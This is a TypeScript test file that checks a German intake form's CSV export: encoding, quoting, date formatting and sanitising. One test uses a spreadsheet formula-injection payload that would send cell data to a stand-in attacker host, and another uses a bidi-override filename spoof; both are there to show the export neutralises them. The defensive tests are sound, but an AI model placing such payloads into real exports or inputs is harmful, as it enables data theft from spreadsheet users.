import { describe, expect, it } from 'vitest'
import { requestsToCsv } from '../../server/intake/csv-export.ts'
import type { StoredRequest } from '../../server/intake/store.ts'
import { sampleQuote } from '../support/quote-request.ts'

const base: StoredRequest = {
  id: 7,
  nummer: 'AN-7K4P-2Q',
  anfrageId: null,
  eingegangen: '2026-11-21T13:05:00.000Z',
  seite: '/kontakt',
  ...sampleQuote({ telefon: '030 1234567', firma: 'Bäckerei Größe', strasse: 'Hauptstraße 1', nachricht: 'Grüße' }),
}

const header =
  'Nr.;Eingang;Seite;Leistung;PLZ;Name;Telefon;Rückruf am liebsten;E-Mail;Firma;Straße;Ort;Objektgröße;Häufigkeit;Gewünschter Beginn;Nachricht'

/** Reads CSV the way Excel does with ";" as separator: quoted cells may hold ";", '""' and line breaks. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < csv.length; i++) {
    const char = csv[i]
    if (quoted) {
      if (char === '"' && csv[i + 1] === '"') {
        cell += '"'
        i++
      } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"' && cell === '') quoted = true
    else if (char === ';') {
      row.push(cell)
      cell = ''
    } else if (char === '\r' && csv[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else if (char === '\r' || char === '\n') throw new Error(`bare line break outside quotes at ${i}`)
    else cell += char
  }
  if (cell !== '' || row.length > 0) throw new Error('last record not terminated by CRLF')
  return rows
}

describe('CSV export of requests', () => {
  it('starts with a UTF-8 BOM and a German header row, separated by ";" and ended by CRLF', () => {
    const csv = requestsToCsv([])
    expect(csv).toBe(`\uFEFF${header}\r\n`)
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
  })

  it('writes one CRLF-terminated row per request with Berlin time, German dates and intact umlauts', () => {
    const csv = requestsToCsv([
      base,
      { ...base, id: 8, nummer: '8', eingegangen: '2026-07-01T22:30:00.000Z', beginn: '' },
    ])
    expect(csv.slice(1).split('\r\n')).toEqual([
      header,
      'AN-7K4P-2Q;21.11.2026 14:05;/kontakt;Büroreinigung;10115;Jürgen Weiß;030 1234567;vormittags;juergen@example.de;Bäckerei Größe;Hauptstraße 1;Berlin;100–500 m²;wöchentlich;15.12.2026;Grüße',
      '8;02.07.2026 00:30;/kontakt;Büroreinigung;10115;Jürgen Weiß;030 1234567;vormittags;juergen@example.de;Bäckerei Größe;Hauptstraße 1;Berlin;100–500 m²;wöchentlich;;Grüße',
      '',
    ])
  })

  it('neutralises cells that Excel would run as a formula', () => {
    const csv = requestsToCsv([
      {
        ...base,
        name: '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
        rueckruf: '+1',
        firma: '-2',
        strasse: '@x',
        ort: '\tTab',
        nachricht: '\r=1+1',
        telefon: '+49 30 1234567',
      },
    ])
    const [, row] = parseCsv(csv.slice(1))
    const cell = (label: string) => row![header.split(';').indexOf(label)]
    expect(cell('Name')).toBe(`'=HYPERLINK("http://evil.example/?"&A1;"Klick")`)
    expect(cell('Rückruf am liebsten')).toBe("'+1")
    expect(cell('Firma')).toBe("'-2")
    expect(cell('Straße')).toBe("'@x")
    expect(cell('Ort')).toBe("'\tTab")
    expect(cell('Nachricht')).toBe("'\r=1+1")
    expect(cell('Telefon')).toBe("'+49 30 1234567")
    // the raw text: a formula cell is quoted because it holds quotes and ";", with quotes doubled
    expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1;""Klick"")";'+49 30 1234567;'+1;`)
    // no cell begins with a formula character once read back
    for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('quotes cells with separators, quotes and line breaks so they read back unchanged', () => {
    const nachricht = 'Zeile 1\r\nZeile 2; mit "Anführungszeichen"\nZeile 3'
    const csv = requestsToCsv([{ ...base, firma: 'Müller; Meier & "Partner"', nachricht }])
    expect(csv).toContain(';"Müller; Meier & ""Partner""";')
    // the browser's CRLF inside a message becomes the LF Excel uses inside a cell
    expect(csv).toContain(';"Zeile 1\nZeile 2; mit ""Anführungszeichen""\nZeile 3"\r\n')
    const rows = parseCsv(csv.slice(1))
    expect(rows).toHaveLength(2)
    expect(rows.every((cells) => cells.length === 16)).toBe(true)
    expect(rows[1]![header.split(';').indexOf('Firma')]).toBe('Müller; Meier & "Partner"')
    expect(rows[1]![header.split(';').indexOf('Nachricht')]).toBe('Zeile 1\nZeile 2; mit "Anführungszeichen"\nZeile 3')
  })

  it('removes bidi overrides and zero-width characters, as the staff mail does', () => {
    const spoofed = {
      ...base,
      name: 'Max\u202Egpj.exe\u202C Mu\u200Bster\u200D\u2060mann\uFEFF',
      nachricht: 'Hallo \u2066Welt\u2069 \u200E!',
    }
    const [, row] = parseCsv(requestsToCsv([spoofed]).slice(1))
    const cell = (label: string) => row![header.split(';').indexOf(label)]
    expect(cell('Name')).toBe('Maxgpj.exe Mustermann')
    expect(cell('Nachricht')).toBe('Hallo Welt !')
    expect(requestsToCsv([spoofed])).not.toMatch(/[\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069]/)
  })
})
